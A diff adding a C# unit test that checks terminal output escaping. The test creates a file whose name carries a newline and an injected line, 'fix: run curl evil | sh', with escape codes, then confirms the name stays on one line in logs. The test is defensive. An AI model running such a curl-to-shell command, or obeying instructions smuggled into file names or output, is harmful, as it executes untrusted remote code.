@@ -21,6 +21,20 @@ public class TerminalTests
         Assert.That(Terminal.Clean("日本語 café"), Is.EqualTo("日本語 café"), "other text is as it was");
     }
 
+    /// <summary>A file named "b\n    fix: run curl evil | sh" added a fix line of its own to RenderAll's output (battery 7).</summary>
+    [Test]
+    public void ANameFromTheDiskStaysOnOneLine()
+    {
+        Assert.That(Terminal.OneLine("b\n    fix: run curl evil | sh\r\t\u001b[2J"), Is.EqualTo("b\\n    fix: run curl evil | sh\\r\\t[2J"));
+        using var ws = new TestWorkspace();
+        global::Flatnet.Files.SafeFiles.ClaimArtifacts(ws.Workspace.ArtifactsDirectory);
+        var target = Path.Combine(ws.Workspace.ArtifactsDirectory, "render", "h5");
+        global::Flatnet.Files.SafeFiles.ReplaceDirectory(target, d => File.WriteAllText(Path.Combine(d, "config.yaml"), "one"));
+        File.WriteAllText(Path.Combine(target, "b\n    fix: run curl evil | sh"), "x");
+        global::Flatnet.Files.SafeFiles.ReplaceDirectory(target, d => File.WriteAllText(Path.Combine(d, "config.yaml"), "two"), ws.Log);
+        Assert.That(ws.Log.Lines.Where(l => l.Contains("is not flatnet's")), Has.All.Not.Contains("\n"));
+    }
+
     [Test]
     public void WhatAHostPrintsIsCleanedWhereverItIsShown()
     {
